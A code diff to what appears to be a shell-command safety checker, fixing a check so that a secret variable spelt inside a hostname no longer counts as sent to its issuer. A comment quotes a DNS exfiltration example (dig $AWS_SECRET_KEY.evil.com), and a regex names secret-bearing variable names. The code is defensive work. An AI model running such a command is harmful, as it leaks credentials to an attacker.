@@ -481,6 +481,7 @@ def _module_as_program(command: SimpleCommand) -> tuple[str, tuple[str, ...]]:
 _NETWORK = frozenset({Action.SEND, Action.FETCH, Action.CONNECT})
 _LOOKS = frozenset({Action.READ, Action.FETCH})  # what read-only commands may do
 # `$GITHUB_TOKEN`, `${OPENAI_API_KEY}`: variables that hold secrets by their name.
+_VARIABLE_REFERENCE = re2.compile(r"\$\{?[A-Za-z_][A-Za-z0-9_]*\}?|\$\([^)]*\)")
 _SECRET_VARIABLE = re2.compile(
     r"\$\{?([A-Za-z0-9_]*(?:TOKEN|SECRET|PASSWORD|PASSWD|API_?KEY|ACCESS_?KEY|PRIVATE_?KEY|"
     r"CREDENTIALS?|AUTH|SESSION_?KEY)[A-Za-z0-9_]*)\}?",
@@ -784,7 +785,9 @@ def _trusted_indexes(
 def _issued_by(variable: str, host: str) -> bool:
     """GITHUB_TOKEN to api.github.com, OPENAI_API_KEY to api.openai.com: the issuer itself."""
     vendor = variable.lower().split("_")[0]
-    return len(vendor) >= 3 and vendor in host.lower()
+    # The host's own name, not the variable spelt in it (`dig $AWS_SECRET_KEY.evil.com`).
+    named = _VARIABLE_REFERENCE.sub("", host).lower()
+    return len(vendor) >= 3 and vendor in named
 
 
 def _output_of(
